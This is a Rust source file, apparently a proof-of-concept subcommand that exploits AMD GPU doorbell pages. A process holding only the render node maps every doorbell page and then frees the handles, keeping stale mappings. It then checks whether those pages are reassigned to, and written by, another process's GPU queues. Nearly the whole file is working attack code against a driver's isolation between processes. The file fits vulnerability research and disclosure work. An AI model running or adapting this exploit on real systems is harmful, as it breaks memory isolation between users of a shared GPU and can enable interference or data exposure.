// SPDX-License-Identifier: GPL-2.0-only OR MIT

//! Somebody with the render node alone takes all doorbells of a GPU that nobody has
//! (`AMDGPU_GEM_DOMAIN_DOORBELL`), maps them, and has them thrown away. They are given to another
//! process's queues next: what he has mapped may not be those. That is before ours serves, which
//! leaves him none.

use crate::gutted::map_for_cpu;
use crate::opener::render_node;
use crate::raw::ioctl;
use crate::running::{say, PATIENCE};
use crate::same_gpu::create_in;
use crate::waves::{Gpu, GROUP};
use anyhow::{Context, Result};
use kfd::topology;
use kfd::Memory;
use kfd_aql::Queue;
use kfd_uapi as uapi;
use rustix::fd::AsFd;
use std::fs;

const PAGE: usize = 4096;
/// The word of a page that says that it is still the same.
const MARK: usize = 512;
/// Packets: so often a doorbell is rung.
const RINGS: u32 = 8;

#[derive(clap::Args)]
pub struct StaleDoorbells {
    /// They are not thrown away before ours comes.
    #[arg(long)]
    keep: bool,
}

impl StaleDoorbells {
    pub fn run(&self) -> Result<()> {
        let nodes = topology::gpus()?;
        let node = nodes.first().context("no GPU")?;
        let minor = node.property("drm_render_minor");
        let render = render_node(node)?;
        let pages = aperture(minor)? / PAGE;
        let take = || create_in(&render, uapi::AMDGPU_GEM_DOMAIN_DOORBELL, PAGE);
        let mut mapped = Vec::new();
        for _ in 0..pages {
            let page = map_for_cpu(&render, take()?, PAGE)?;
            // SAFETY: just mapped. Nobody has a queue with this doorbell.
            unsafe { page.add(MARK).write_volatile(1) };
            mapped.push(page);
        }
        if !self.keep {
            // Each takes the place of one of those; then nobody has them.
            let others = (0..pages).map(|_| take()).collect::<Result<Vec<_>>>()?;
            for handle in others {
                ioctl(render.as_fd(), uapi::IOC_DRM_GEM_CLOSE, &mut [handle, 0])?;
            }
        }
        say("mapped")?;
        std::io::stdin().read_line(&mut String::new())?;
        let all = || mapped.iter().map(|&page| words(page)).collect::<Vec<_>>();
        let before = all();
        let kept = before.iter().filter(|words| words[MARK] != 0);
        println!("{} pages of {pages} are what they were", kept.count());
        ring()?;
        let after = all();
        let changed = before.iter().zip(&after).filter(|(old, new)| old != new);
        println!("{} pages of {pages} have changed", changed.count());
        Ok(())
    }
}

/// Bytes of the doorbells' aperture.
fn aperture(minor: u64) -> Result<usize> {
    let resources = fs::read_to_string(format!("/sys/class/drm/renderD{minor}/device/resource"))?;
    let line = resources.lines().nth(2).context("no BAR 2")?;
    let mut numbers = line
        .split_whitespace()
        .map(|number| u64::from_str_radix(number.trim_start_matches("0x"), 16));
    let (first, last) = (numbers.next(), numbers.next());
    let (first, last) = (first.context("no start")??, last.context("no end")??);
    Ok((last + 1 - first) as usize)
}

fn words(page: *mut u32) -> Vec<u32> {
    (0..PAGE / 4)
        // SAFETY: within the page, which stays mapped.
        .map(|word| unsafe { page.add(word).read_volatile() })
        .collect()
}

/// The victim: has a queue, and rings its doorbell.
pub(crate) fn ring() -> Result<()> {
    let gpu = Gpu::open(4)?;
    let memory = Memory::gtt(gpu.device(), PAGE * GROUP as usize)?;
    let queue = Queue::new(gpu.device(), 64)?;
    let mut arguments = [memory.address(); 2].map(u64::to_le_bytes).concat();
    arguments.extend(0u32.to_le_bytes());
    for _ in 0..RINGS {
        let launch = gpu.launch("verify", GROUP, &arguments)?;
        let done = gpu.signal()?;
        launch.submit(&queue, &done)?;
        done.wait(PATIENCE)?;
    }
    Ok(())
}
